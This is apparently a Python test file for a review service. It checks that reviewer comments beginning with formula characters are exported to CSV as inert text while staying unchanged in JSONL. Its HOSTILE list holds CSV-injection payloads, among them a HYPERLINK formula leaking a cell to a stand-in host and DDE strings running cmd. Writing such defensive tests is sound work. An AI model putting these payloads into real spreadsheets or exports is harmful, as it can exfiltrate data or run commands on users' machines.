"""The answers' CSV export opens in a spreadsheet as text: a reviewer's comment can never become a
live formula there (OWASP's CSV injection advice), on a real database."""

from __future__ import annotations

import csv
import io
import uuid

from review_factories import ReviewDb
from test_leases import tx

from verifier_service.review import export, service
from verifier_service.review.schemas import AnswerIn

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_comments_that_start_a_formula_export_as_text(review_db: ReviewDb) -> None:
    policy = review_db.policy(overlap=1)
    review_db.job(policy, len(HOSTILE) + 1)
    comments = [*HOSTILE, "fine, -ish"]
    for comment in comments:
        view = tx(service.next_task, "rita", policy)
        assert view is not None
        answer = AnswerIn(values={"quality": 2, "verdict": "bad"}, comment=comment)
        tx(service.submit, view.lease_id, "rita", answer, uuid.uuid4().hex)

    rows = list(csv.DictReader(io.StringIO("".join(export.csv_rows(policy)), newline="")))
    exported = sorted(row["comment"] for row in rows)
    # Each starts with ' (a spreadsheet shows the rest as text) and keeps what was written.
    assert exported == sorted(["'" + c for c in HOSTILE] + ["fine, -ish"])
    assert {row["value.quality"] for row in rows} == {"2.0"}  # numbers stay numbers
    # The JSONL export is for programs: what was written, unchanged.
    lines = "".join(export.jsonl(policy))
    assert '"=HYPERLINK(' in lines
